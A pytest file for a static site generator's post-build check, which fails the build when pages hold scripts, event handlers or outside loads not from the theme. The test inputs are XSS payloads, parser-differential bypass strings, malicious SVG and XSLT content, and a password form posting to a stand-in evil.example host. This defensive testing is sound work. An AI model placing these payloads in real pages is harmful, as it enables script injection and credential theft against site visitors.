"""The post-build check: the theme's own scripts pass, anything else fails the build and keeps site/."""

from __future__ import annotations

import json
import subprocess
import sys
import time
from pathlib import Path

import pytest
from tiny_corpus import build_project, cli_env, make_project, tree_digest

from generator import postcheck
from generator.html_check import check_html, theme_inline_scripts
from generator.ownership import MANIFEST
from generator.postcheck import check_site
from generator.site_files import check_files, hand_written_source, scripts_of


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<title></title><script>alert(1)</script>", (1, 16, "script element not from the theme: <script>alert(1)")),
        ("<img src=x onerror=alert(1)>", (1, 1, "event-handler attribute 'onerror': <img src=x onerror=alert(1)>")),
        ("<svg><g onload='x'/></svg>", (1, 6, "event-handler attribute 'onload': <g onload='x'/>")),
        (
            '<a href=" jav&#x09;ascript:alert(1)">x</a>',
            (1, 1, "javascript: URL in attribute 'href': <a href=\" jav&#x09;ascript:alert(1)\">"),
        ),
        ('<a href="JaVaScRiPt:x">', (1, 1, "javascript: URL in attribute 'href': <a href=\"JaVaScRiPt:x\">")),
        (
            '<form><button formaction="javascript:x">',
            (1, 7, "javascript: URL in attribute 'formaction': <button formaction=\"javascript:x\">"),
        ),
        (
            '<img src="data:image/svg+xml,&lt;svg onload=x&gt;">',
            (1, 1, "data: URL in attribute 'src': <img src=\"data:image/svg+xml,&lt;svg onload=x&gt;\">"),
        ),
        (
            '<img srcset="a.png 1x, data:image/png,x 2x">',
            (1, 1, "data: URL in attribute 'srcset': <img srcset=\"a.png 1x, data:image/png,x 2x\">"),
        ),
        (
            '<svg><a xlink:href="javascript:1">',
            (1, 6, "javascript: URL in attribute 'xlink:href': <a xlink:href=\"javascript:1\">"),
        ),
        (
            '<svg><set attributeName="href" to="javascript:x"/>',
            (1, 6, 'javascript: URL in attribute \'to\': <set attributeName="href" to="javascript:x"/>'),
        ),
        (
            '<div style="background:u\\72l(javascript:x)">',
            (1, 1, 'style attribute loads a javascript URL: <div style="background:u\\72l(javascript:x)">'),
        ),
        (
            "<style>@import 'data:text/css,x';</style>",
            (1, 1, "style element loads a data URL: @import 'data:text/css,x';"),
        ),
        (
            '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
            (1, 1, 'meta refresh is not allowed: <meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
        ),
        (
            '<meta http-equiv=" Refresh" content="0;url=https://evil.example/">',
            (1, 1, 'meta refresh is not allowed: <meta http-equiv=" Refresh" content="0;url=https://evil.example/">'),
        ),
        (
            '<form action="https://evil.example/steal"><input type=password></form>',
            (1, 1, "attribute 'action' sends a form to another host: <form action=\"https://evil.example/steal\">"),
        ),
        (
            '<form><button formaction="//evil.example/">',
            (1, 7, "attribute 'formaction' sends a form to another host: <button formaction=\"//evil.example/\">"),
        ),
        ("<iframe src=x></iframe>", (1, 1, "iframe element is not allowed: <iframe src=x>")),
        (
            '<script type="application/ld+json">{bad</script>',
            (
                1,
                1,
                "script element not from the theme (JSON data must be valid JSON): "
                '<script type="application/ld+json">{bad',
            ),
        ),
        (
            '<script type="module">import "x"</script>',
            (1, 1, 'script element not from the theme: <script type="module">import "x"'),
        ),
        (
            '<script src="https://cdn.example/x.js"></script>',
            (1, 1, 'script element not from the theme: <script src="https://cdn.example/x.js">'),
        ),
        (
            '<script src="../assets/javascripts/x.js"></script>',
            (1, 1, 'script element not from the theme: <script src="../assets/javascripts/x.js">'),
        ),
        (
            '<script src="assets/javascripts/x.js">alert(1)</script>',
            (1, 1, 'script element not from the theme: <script src="assets/javascripts/x.js">alert(1)'),
        ),
        (
            '<img src="https://tracker.example/pixel.png">',
            (1, 1, "attribute 'src' loads from another host: <img src=\"https://tracker.example/pixel.png\">"),
        ),
        (
            '<img src="x.png" srcset="x.png 1x, //cdn.example/x2.png 2x">',
            (
                1,
                1,
                "attribute 'srcset' loads from another host: "
                '<img src="x.png" srcset="x.png 1x, //cdn.example/x2.png 2x">',
            ),
        ),
        (
            '<link rel="preload stylesheet" href=" HTTPS://cdn.example/x.css">',
            (
                1,
                1,
                'attribute \'href\' loads from another host: <link rel="preload stylesheet" href=" HTTPS://cdn.example/x.css">',
            ),
        ),
        (
            '<link rel="icon" href="\\\\cdn.example/x.ico">',
            (1, 1, 'attribute \'href\' loads from another host: <link rel="icon" href="\\\\cdn.example/x.ico">'),
        ),
        (
            '<video poster="https://cdn.example/p.jpg"></video>',
            (1, 1, "attribute 'poster' loads from another host: <video poster=\"https://cdn.example/p.jpg\">"),
        ),
        (
            '<a href="https://example.org/" ping="https://tracker.example/">x</a>',
            (
                1,
                1,
                'attribute \'ping\' loads from another host: <a href="https://example.org/" ping="https://tracker.example/">',
            ),
        ),
        (
            '<svg><image href="https://cdn.example/x.svg"/></svg>',
            (1, 6, "attribute 'href' loads from another host: <image href=\"https://cdn.example/x.svg\"/>"),
        ),
        (
            "<p style=\"background: url( 'https://tracker.example/x.png')\">",
            (
                1,
                1,
                "style attribute loads from another host: <p style=\"background: url( 'https://tracker.example/x.png')\">",
            ),
        ),
        (
            "<style>@font-face { src: url(//fonts.example/x.woff2) }</style>",
            (1, 1, "style element loads from another host: @font-face { src: url(//fonts.example/x.woff2) }"),
        ),
        (
            '<script>__md_scope=new URL("x",location),alert(1)</script>',
            (1, 1, 'script element not from the theme: <script>__md_scope=new URL("x",location),alert(1)'),
        ),
    ],
)
def test_check_html_flags_each_construct(html: str, expected: tuple[int, int, str]) -> None:
    assert check_html(html, "index.html") == [expected]


@pytest.mark.parametrize(
    "html",
    [
        '<script src="assets/javascripts/bundle.a5f9d56c.min.js"></script>',
        '<script src="/fact-sheets/assets/javascripts/bundle.a5f9d56c.min.js"></script>',
        '<script id="__config" type="application/json">{"base": "."}</script>',
        '<script type="application/ld+json">{"@type": "Person", "name": "\\u003cb\\u003e"}</script>',
        "<script>var target=document.getElementById(location.hash.slice(1));target&&target.name&&"
        '(target.checked=target.name.startsWith("__tabbed_"))</script>',
        '<a href="https://example.org/x?a=1&amp;b=2">x</a><a href="../people/x/">y</a>',
        "<p>javascript: is only text here, and so is onclick=x</p>",
        # What the theme writes: a canonical address, the site's own files, links the reader may follow.
        '<link rel="canonical" href="https://western-balkans-facts.github.io/fact-sheets/about/">',
        '<link rel="alternate" hreflang="sq" href="https://example.org/sq/">',
        '<link rel="stylesheet" href="../assets/stylesheets/main.css"><link rel="icon" href="/fact-sheets/x.png">',
        '<img src="../assets/images/x.png" srcset="x.png 1x, x2.png 2x"><div style="background:url(x.png)">',
        '<a href="https://example.org/">x</a><a href="mailto:team@example.org">y</a>',
    ],
)
def test_check_html_accepts_the_theme_and_plain_links(html: str) -> None:
    assert check_html(html, "index.html") == []


@pytest.mark.parametrize(
    ("html", "message"),
    [
        # Inside <svg> and <math>, <style> holds markup: Python's parser reads it as text everywhere.
        ('<svg><style><img src=x onerror="alert(1)"></style></svg>', "event-handler attribute 'onerror'"),
        ('<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">', "event-handler attribute 'onerror'"),
        # A browser ends an element's text at an end tag with more after its name; Python's parser did not.
        ("<style></style x><script>alert(1)</script>", "script element not from the theme: <script>alert(1)"),
        ('<script type="application/ld+json">{"a": "</script x><img src=x onerror=alert(1)>"}</script>', "onerror"),
        # ... and not at "</ style>", where Python's parser did.
        ("<script>alert(1)</ script>ok</script>", "script element not from the theme: <script>alert(1)</ script>ok"),
        # With scripts on, a browser reads noscript (and xmp, noembed ...) as text: an attribute can end it.
        ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', "event-handler attribute"),
        ('<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>', "event-handler attribute 'onerror'"),
        ('<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>', "event-handler attribute"),
        # Comments a browser ends early, and marked sections, which it ends at the first ">".
        ('<!--><img src=x onerror="alert(1)">-->', "comment that a browser ends early: <!-->"),
        ('<!---><img src=x onerror="alert(1)">-->', "comment that a browser ends early: <!--->"),
        ('<!-- --!><img src=x onerror="alert(1)">-->', "comment that a browser ends early: --!>"),
        ('<p><![CDATA[ ><img src=x onerror="alert(1)"> ]]></p>', "marked section, which a browser reads as a comment"),
        # Loads that name an address without url(): image-set(), and SVG's presentation attributes.
        ("<div style=\"background-image: image-set('https://t.example/a.png' 1x)\">", "style attribute loads from"),
        ('<style>b { background: -webkit-image-set("//t.example/b.png" 1x) }</style>', "style element loads from"),
        ('<svg><rect fill="url(https://t.example/f.svg#a)"/></svg>', "fill attribute loads from another host"),
        ('<svg><rect clip-path="url(//t.example/c.svg#a)"/></svg>', "clip-path attribute loads from another host"),
        ('<p style="width: expression(alert(1))">x</p>', "style attribute loads an expression()"),
    ],
)
def test_markup_that_a_browser_reads_otherwise_than_pythons_parser_is_flagged(html: str, message: str) -> None:
    """Each of these ran a script or loaded a file in Chromium while Python's parser saw nothing wrong."""
    assert any(message in found for _, _, found in check_html(html, "index.html")), check_html(html, "index.html")


@pytest.mark.parametrize(
    "html",
    [
        '<svg><style>.a { fill: red } a > b { fill: url(#local) }</style><rect fill="url(#g)"/></svg>',
        "<noscript><p>Turn on scripts for search.</p></noscript><textarea>a &lt; b</textarea>",
        "<!-- a comment -- with dashes --><p>x</p>",
        # Text with brackets in an attribute is no CSS: a policy's title reaches the footer's aria-label.
        '<a href="../x/" aria-label="Next: Freedom of expression (Chapter 23)">x</a>',
        '<abbr title="see url(https://example.org/)">x</abbr><img src="x.png" alt="Regular expression (regex)">',
    ],
)
def test_what_browsers_and_the_check_read_alike_passes(html: str) -> None:
    assert check_html(html, "index.html") == []


def test_theme_scripts_are_read_from_the_installed_theme() -> None:
    import material

    template = Path(material.__file__).parent / "templates" / "partials" / "javascripts" / "base.html"
    body = template.read_text().split("<script>", 1)[1].split("</script>", 1)[0]
    patterns = theme_inline_scripts()
    assert len(patterns) >= 5
    expression = "{{ config.extra.scope | d(base_url) }}"
    assert any(p.fullmatch(body.replace(expression, "../..")) for p in patterns)
    assert not any(p.fullmatch(body.replace(expression, '",alert(1),"')) for p in patterns)


def test_the_real_site_passes_the_check(tmp_path: Path) -> None:
    root = make_project(tmp_path / "p", real_facts=True)
    build_project(root)
    started = time.perf_counter()
    assert check_site(root / "site", scripts=scripts_of(root / "mkdocs.yml")) == []
    # The project's own scripts pass because the configuration names them, and only then.
    assert sorted(p.file for p in check_site(root / "site")) == [
        "site/assets/javascripts/accessibility.js",
        "site/assets/javascripts/permalinks.js",
    ]
    pages = len(list((root / "site").rglob("*.html")))
    print(f"post-build check: {pages} pages in {time.perf_counter() - started:.3f}s")


@pytest.mark.parametrize(
    ("name", "text", "message"),
    [
        ("press.htm", "<p>x</p><script>alert(1)</script>", "script element not from the theme: <script>alert(1)"),
        ("press.xhtml", '<p onclick="alert(1)">x</p>', "event-handler attribute 'onclick'"),
        ("assets/images/badge.svg", "<svg><script>alert(1)</script></svg>", "script element not from the theme"),
        ("sitemap-extra.xml", '<svg><image href="https://t.example/p.png"/></svg>', "loads from another host"),
        (
            "stylesheets/accessibility.css",
            "@import url(https://t.example/x.css);",
            "stylesheet loads from another host",
        ),
        ("stylesheets/x.css", "a { background: url('javascript:alert(1)') }", "stylesheet loads a javascript URL"),
        ("assets/javascripts/analytics.js", "alert(1)", "script file that is neither the theme's own nor named"),
        ("assets/javascripts/bundle", "alert(1)", "script file that is neither the theme's own nor named"),
        ("search/search_index.js", "var __index = {}; alert(1)", "script file that is neither the theme's own nor"),
        ("press.HTML", "<script>alert(1)</script>", "script element not from the theme"),  # served as text/html
        # In XML, a namespace makes an element a script, whatever its prefix; entities and XSLT can write one.
        (
            "assets/images/prefixed.svg",
            '<svg xmlns="http://www.w3.org/2000/svg"><s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)'
            "</s:script></svg>",
            "script element not from the theme",
        ),
        ("a.svg", '<svg><a l:href="javascript:alert(1)">x</a></svg>', "javascript: URL in attribute 'href'"),
        ("e.svg", '<!DOCTYPE svg [<!ENTITY e "&#60;script&#62;">]><svg>&e;</svg>', "declares an entity or applies"),
        ("s.xml", '<?xml-stylesheet type="text/xsl" href="t.xsl"?><x/>', "declares an entity or applies a stylesheet"),
        ("t.xsl", '<xsl:element name="script">alert(1)</xsl:element>', "XSLT stylesheet, which can write script"),
    ],
)
def test_a_hand_written_file_that_runs_or_loads_something_fails_the_check(
    name: str, text: str, message: str, tmp_path: Path
) -> None:
    """MkDocs copies every file of content/ into the site, where a browser renders a document or runs a script it
    finds; a file of the theme's name (the bundle) replaces the theme's own."""
    root = make_project(tmp_path / "p")
    build_project(root)
    site, scripts = root / "site", scripts_of(root / "mkdocs.yml")
    assert check_site(site, scripts=scripts) == []
    if name == "assets/javascripts/bundle":
        [name] = [p.relative_to(site).as_posix() for p in (site / "assets" / "javascripts").glob("bundle.*.js")]
    (site / name).parent.mkdir(parents=True, exist_ok=True)
    (site / name).write_text(text, encoding="utf-8")
    (root / "content" / name).parent.mkdir(parents=True, exist_ok=True)
    (root / "content" / name).write_text(text, encoding="utf-8")
    [problem] = check_site(site, content=root / "content", scripts=scripts)
    assert (problem.file, problem.hint) == (f"site/{name}", f"the file is a copy of content/{name}")
    assert message in problem.message


def test_a_script_in_the_built_site_fails_the_build_and_keeps_the_old_site(tmp_path: Path) -> None:
    root = make_project(tmp_path / "p")
    build = [sys.executable, "-m", "generator", "build"]
    assert subprocess.run(build, cwd=root, env=cli_env(), capture_output=True).returncode == 0
    before = tree_digest(root / "site")
    names = sorted(p.name for p in root.iterdir())
    # Python-Markdown passes raw HTML through: a hand-written page is the way to get markup past escaping.
    (root / "content" / "evil.md").write_text(
        "# Evil\n\n<script>alert(1)</script>\n\n[x](javascript:alert(1))\n\n"
        "![pixel](https://tracker.example/q.png)\n\n"  # who reads the page, told to another host
        '<link rel="stylesheet" href="https://cdn.example/x.css">\n'
    )
    result = subprocess.run(build, cwd=root, env=cli_env(), capture_output=True, text=True)
    assert result.returncode == 1
    lines = result.stderr.splitlines()
    assert (
        "post-build check: 1 file failed; site/ was left as it was. Remove the markup from the hand-written file; "
        "if it came from a fact value, report an escaping bug." in lines
    )
    assert lines[-1] == f"{sum(': error: ' in line for line in lines)} errors, 0 warnings"  # the findings alone
    assert any(
        line.startswith("site/evil/index.html:")
        and line.endswith(": error: script element not from the theme: <script>alert(1)")
        for line in lines
    ), lines
    assert any(
        line.startswith("site/evil/index.html:")
        and line.endswith(": error: javascript: URL in attribute 'href': <a href=\"javascript:alert(1)\">")
        for line in lines
    ), lines
    assert "  hint: the page is built from content/evil.md" in lines  # where to fix it, not the built HTML
    for finding in (
        ': error: attribute \'src\' loads from another host: <img alt="pixel" src="https://tracker.example/q.png" />',
        ': error: attribute \'href\' loads from another host: <link rel="stylesheet" href="https://cdn.example/x.css">',
    ):
        assert any(line.startswith("site/evil/index.html:") and line.endswith(finding) for line in lines), lines
    assert "Traceback" not in result.stderr
    assert tree_digest(root / "site") == before
    assert sorted(p.name for p in root.iterdir()) == names


def test_the_search_index_is_checked_because_the_theme_renders_it_as_html(tmp_path: Path) -> None:
    (tmp_path / "search").mkdir()
    (tmp_path / "search" / "search_index.json").write_text(
        '{"docs": [{"location": "x/", "title": "<img src=x onerror=y>", "text": "&lt;b&gt; is text"}]}'
    )
    problems = check_site(tmp_path)
    assert [(p.location(), p.message) for p in problems] == [
        (
            "site/search/search_index.json:1:1",
            "event-handler attribute 'onerror': <img src=x onerror=y> (search entry 'x/', title)",
        ),
    ]


def test_a_large_site_is_checked_on_every_core_with_the_same_findings_in_the_same_order(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for number in range(9):
        (tmp_path / f"p{number}").mkdir()
        body = f'<a href="javascript:{number}">x</a>' if number % 4 == 1 else "<p>fine</p>"
        (tmp_path / f"p{number}" / "index.html").write_text(body)
    (tmp_path / "search").mkdir()
    docs = [{"location": f"p{n}/", "title": "<b onclick=x>t</b>" if n == 7 else "t", "text": ""} for n in range(9)]
    (tmp_path / "search" / "search_index.json").write_text(json.dumps({"docs": docs}))
    monkeypatch.setattr(postcheck, "BATCH", 2)  # five batches of pages, and the search index
    monkeypatch.setattr(postcheck, "PARALLEL_FROM", 0)
    alone = check_site(tmp_path, jobs=1)
    assert [p.file for p in alone] == [
        "site/p1/index.html",
        "site/p5/index.html",
        "site/search/search_index.json",
    ]
    assert check_site(tmp_path, jobs=2) == alone


def test_a_finding_names_the_hand_written_page_it_comes_from(tmp_path: Path) -> None:
    content = tmp_path / "content"
    for name in ("about.md", "index.md", "notes/index.md", "people/x.md", "data-index.md"):
        (content / name).parent.mkdir(parents=True, exist_ok=True)
        (content / name).write_text("# Page\n", encoding="utf-8")
    (content / MANIFEST).write_text(json.dumps({"files": ["people/x.md"]}), encoding="utf-8")
    pages = ("about/index.html", "about.html", "index.html", "notes/index.html", "notes.html", "people/x/index.html")
    pages += ("data-index.html", "data-index/index.html")  # a name that ends in "index" is not a folder's index
    assert {page: hand_written_source(page, content) for page in (*pages, "y.html")} == {
        "about/index.html": "content/about.md",
        "about.html": "content/about.md",  # the offline build's page names
        "index.html": "content/index.md",
        "notes/index.html": "content/notes/index.md",
        "notes.html": "content/notes/index.md",
        "people/x/index.html": "",  # generated: the manifest lists it
        "data-index.html": "content/data-index.md",
        "data-index/index.html": "content/data-index.md",
        "y.html": "",
    }


def test_json_ld_nested_past_the_parsers_depth_is_flagged_as_invalid() -> None:
    """json.loads raises RecursionError, not ValueError, on JSON nested thousands deep."""
    html = '<script type="application/ld+json">' + "[" * 100_000 + "</script>"
    [(line, column, message)] = check_html(html, "index.html")
    assert (line, column) == (1, 1)
    assert message.startswith("script element not from the theme (JSON data must be valid JSON): ")


@pytest.mark.parametrize("name", ["feed.rss", "feed.atom", "about.rdf", "press.xhtm", "press.shtm"])
def test_every_suffix_a_browser_shows_as_a_document_is_read(name: str, tmp_path: Path) -> None:
    """Chromium runs the script of each of these files when it opens them from disk."""
    (tmp_path / name).write_text('<x xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></x>')
    [(file, _, _, message)] = check_files(tmp_path, [name], frozenset())
    assert (file, message) == (name, "script element not from the theme: <script>alert(1)")


def test_an_svg_may_keep_its_style_in_a_cdata_section(tmp_path: Path) -> None:
    """In XML, unlike HTML, a CDATA section is text: the check of other documents leaves it alone."""
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><style><![CDATA[ .a { fill: red } ]]></style></svg>'
    (tmp_path / "logo.svg").write_text(svg)
    assert check_files(tmp_path, ["logo.svg"], frozenset()) == []


def test_a_feeds_link_to_itself_loads_nothing(tmp_path: Path) -> None:
    """In a feed, <link rel="self"> names the feed's address; a browser showing it requests nothing."""
    (tmp_path / "feed.atom").write_text(
        '<feed xmlns="http://www.w3.org/2005/Atom"><link href="https://example.org/feed.atom" rel="self"/></feed>'
    )
    (tmp_path / "feed.rss").write_text(
        '<rss xmlns:atom="http://www.w3.org/2005/Atom"><channel><atom:link href="https://example.org/feed.rss" '
        'rel="self" type="application/rss+xml"/></channel></rss>'
    )
    assert check_files(tmp_path, ["feed.atom", "feed.rss"], frozenset()) == []
